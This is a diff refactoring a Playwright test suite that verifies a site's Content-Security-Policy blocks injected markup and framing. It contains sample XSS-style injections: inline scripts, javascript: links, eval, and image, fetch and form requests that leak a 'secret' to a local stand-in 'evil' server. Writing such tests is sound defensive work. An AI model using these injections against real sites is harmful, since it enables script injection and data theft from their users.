@@ -1,44 +1,34 @@
-/** The Content-Security-Policy in a browser: it lets everything of the site run, and nothing else. */
-import { once } from 'node:events';
+/** The Content-Security-Policy in a browser: it allows everything that the site does, and nothing else. */
 import { createServer } from 'node:http';
-import type { BrowserContext, Page } from '@playwright/test';
+import type { Page } from '@playwright/test';
+import { closeServer, listenOnLoopback } from '../../support/http/loopback-server.ts';
 import { completeSignUp } from '../../support/sign-in/hosted-login-pages.ts';
 import { expect, test } from '../support/fixtures.ts';
+import { recordPolicyViolations } from '../support/recordings.ts';
+import { messageField, sendButton, sentNotice, signInLink, signOut } from '../support/site-pages.ts';
 import { translationsOf } from '../support/translations.ts';
 
 const t = translationsOf('en');
 
-/** What the policy of any page of this browser has stopped so far, as the pages themselves are told. */
-async function watchPolicy(context: BrowserContext): Promise<string[]> {
-  const violations: string[] = [];
-  await context.exposeFunction('policyViolated', (violation: string) => void violations.push(violation));
-  await context.addInitScript(() => {
-    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
-      Reflect.get(window, 'policyViolated')(`${effectiveDirective} ${blockedURI}`);
-    });
-  });
-  return violations;
-}
-
 // threat-model: T-053, T-072
-test('an ordinary visit goes against the policy nowhere, and asks nobody else for anything', async ({
+test('a visit violates the policy nowhere and sends requests only to the site and the hosted login', async ({
   page,
   context,
   cloud,
   site,
 }) => {
-  const violations = await watchPolicy(context);
-  const asked = new Set<string>();
-  context.on('request', (request) => asked.add(new URL(request.url()).origin));
+  const violations = await recordPolicyViolations(context);
+  const origins = new Set<string>();
+  context.on('request', (request) => origins.add(new URL(request.url()).origin));
   await page.goto('/typography-demo');
   await page.getByRole('button', { name: t('theme.dark') }).click();
   await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
   await page.goto('/nowhere');
   await page.goto('/auth/sign-up?returnTo=/test-message');
   await completeSignUp(page, cloud, 'policy@example.com');
-  await page.getByLabel(t('test-message:compose.label')).fill('within the policy');
-  await page.getByRole('button', { name: t('test-message:compose.send') }).click();
-  await expect(page.getByText(t('test-message:compose.sent'))).toBeVisible();
+  await messageField(page).fill('within the policy');
+  await sendButton(page).click();
+  await expect(sentNotice(page)).toBeVisible();
   for (const path of ['/ar', '/ja/typography-demo', '/hi/test-message', '/fr/nowhere']) {
     await page.goto(path);
     await page.waitForLoadState('networkidle');
@@ -49,14 +39,13 @@ test('an ordinary visit goes against the policy nowhere, and asks nobody else fo
   await page.goto('/');
   await page.getByRole('link', { name: t('nav.pages.test-message'), exact: true }).click();
   await expect(page.getByText('within the policy')).toBeVisible();
-  await page.locator('summary').filter({ hasText: 'policy@example.com' }).click();
-  await page.getByRole('button', { name: t('account.signOut') }).click();
-  await expect(page.getByRole('banner').getByRole('link', { name: t('account.signIn') })).toBeVisible();
+  await signOut(page, 'policy@example.com');
+  await expect(signInLink(page)).toBeVisible();
   expect(violations).toEqual([]);
-  expect([...asked].sort()).toEqual([site.origin, cloud.origin].sort());
+  expect([...origins].sort()).toEqual([site.origin, cloud.origin].sort());
 });
 
-/** What somebody could do who got markup into a page, and the directive that is in the way. */
+/** What injected markup may attempt, and the directive that prevents it. */
 const injections: readonly [string, string, (page: Page, evil: string) => Promise<unknown>][] = [
   [
     'an inline script',
@@ -64,22 +53,22 @@ const injections: readonly [string, string, (page: Page, evil: string) => Promis
     (page) => insert(page, 'script', { textContent: 'window.ran = 1' }),
   ],
   [
-    'an inline script with a nonce that is made up',
+    'an inline script with a wrong nonce',
     'script-src-elem',
     (page) => insert(page, 'script', { textContent: 'window.ran = 1', nonce: 'made-up' }),
   ],
   [
-    'a script from elsewhere',
+    'a script of another origin',
     'script-src-elem',
     (page, evil) => insert(page, 'script', { src: `${evil}/run.js` }),
   ],
   [
-    'a script in an address',
+    'a script in a data URL',
     'script-src-elem',
     (page) => insert(page, 'script', { src: 'data:text/javascript,window.ran=1' }),
   ],
   [
-    'a handler in markup',
+    'an inline event handler',
     'script-src-attr',
     (page) =>
       page.evaluate(() => {
@@ -87,7 +76,7 @@ const injections: readonly [string, string, (page: Page, evil: string) => Promis
       }),
   ],
   [
-    'a link that is a script',
+    'a javascript: link',
     'script-src-elem',
     (page) =>
       page.evaluate(() => {
@@ -95,20 +84,20 @@ const injections: readonly [string, string, (page: Page, evil: string) => Promis
         document.getElementById('link')?.click();
       }),
   ],
-  ['text that is run', 'script-src', (page) => page.evaluate(() => setTimeout('window.ran = 1'))],
+  ['evaluated text', 'script-src', (page) => page.evaluate(() => setTimeout('window.ran = 1'))],
   ['a frame of another site', 'frame-src', (page, evil) => insert(page, 'iframe', { src: evil })],
   [
-    'a picture that tells another site',
+    'an image request that leaks data to another site',
     'img-src',
-    (page, evil) => insert(page, 'img', { src: `${evil}/told?secret` }),
+    (page, evil) => insert(page, 'img', { src: `${evil}/leak?secret` }),
   ],
   [
-    'a request that tells another site',
+    'a request that leaks data to another site',
     'connect-src',
-    (page, evil) => page.evaluate((url) => void fetch(url).catch(() => {}), `${evil}/told`),
+    (page, evil) => page.evaluate((url) => void fetch(url).catch(() => {}), `${evil}/leak`),
   ],
   [
-    'a form for another site',
+    'a form that posts to another site',
     'form-action',
     (page, evil) =>
       page.evaluate((action) => {
@@ -117,9 +106,9 @@ const injections: readonly [string, string, (page: Page, evil: string) => Promis
           `<form id="form" method="post" action="${action}"></form>`,
         );
         document.querySelector<HTMLFormElement>('#form')?.submit();
-      }, `${evil}/told`),
+      }, `${evil}/leak`),
   ],
-  ['another base for every address', 'base-uri', (page, evil) => insert(page, 'base', { href: `${evil}/` })],
+  ['a base URL of another site', 'base-uri', (page, evil) => insert(page, 'base', { href: `${evil}/` })],
   [
     'a style sheet of another site',
     'style-src-elem',
@@ -139,30 +128,28 @@ function insert(page: Page, name: string, properties: Record<string, string>): P
   );
 }
 
-test.describe('what got into a page', () => {
-  // The browser says each of them on the console too.
+test.describe('injected markup', () => {
+  // The browser also reports every violation on the console.
   test.use({ expectedConsole: /Content Security Policy/ });
 
   for (const [path, kind] of [
-    ['/fr', 'from memory'],
-    ['/test-message', 'of somebody who is signed in'],
-    ['/nowhere', 'that is none'],
+    ['/fr', 'a cached page'],
+    ['/test-message', 'a page of a signed-in visitor'],
+    ['/nowhere', 'an error page'],
   ] as const) {
     // threat-model: T-053
-    test(`does nothing, and the policy says so: a page ${kind}`, async ({ page, context, cloud }) => {
-      const asked: string[] = [];
+    test(`does nothing and is reported as a violation: ${kind}`, async ({ page, context, cloud }) => {
+      const received: string[] = [];
       const evil = createServer((request, response) => {
-        asked.push(request.url ?? '');
+        received.push(request.url ?? '');
         response.end('window.ran = 1');
-      }).listen(0, '127.0.0.1');
-      await once(evil, 'listening');
-      const address = evil.address();
-      const evilOrigin = `http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}`;
-      if (kind === 'of somebody who is signed in') {
+      });
+      const evilOrigin = await listenOnLoopback(evil);
+      if (kind === 'a page of a signed-in visitor') {
         await page.goto('/auth/sign-up?returnTo=/test-message');
         await completeSignUp(page, cloud, 'injected@example.com');
       }
-      const violations = await watchPolicy(context);
+      const violations = await recordPolicyViolations(context);
       for (const [what, directive, inject] of injections) {
         await page.goto(path);
         violations.length = 0;
@@ -172,28 +159,24 @@ test.describe('what got into a page', () => {
           .toEqual([directive]);
         expect(await page.evaluate(() => Reflect.get(window, 'ran')), what).toBeUndefined();
       }
-      expect(asked).toEqual([]);
-      evil.closeAllConnections();
-      evil.close();
+      expect(received).toEqual([]);
+      await closeServer(evil);
     });
   }
 });
 
 // threat-model: T-054
-test('no page of the site stands in a frame of another', async ({ page, context, site, cloud }) => {
+test('no page of the site is shown in a frame of another site', async ({ page, context, site, cloud }) => {
   await page.goto('/auth/sign-up?returnTo=/test-message');
   await completeSignUp(page, cloud, 'framed@example.com');
   const evil = createServer((_request, response) => {
     response.setHeader('content-type', 'text/html');
     response.end(`<!doctype html><title>evil</title><iframe src="${site.origin}/test-message"></iframe>`);
-  }).listen(0, '127.0.0.1');
-  await once(evil, 'listening');
-  const address = evil.address();
+  });
   const other = await context.newPage();
-  await other.goto(`http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}/`);
+  await other.goto(await listenOnLoopback(evil));
   await other.waitForLoadState('networkidle');
   const [, frame] = other.frames();
   expect(frame?.url()).toMatch(/^(chrome-error:|about:blank$)/);
-  evil.closeAllConnections();
-  evil.close();
+  await closeServer(evil);
 });
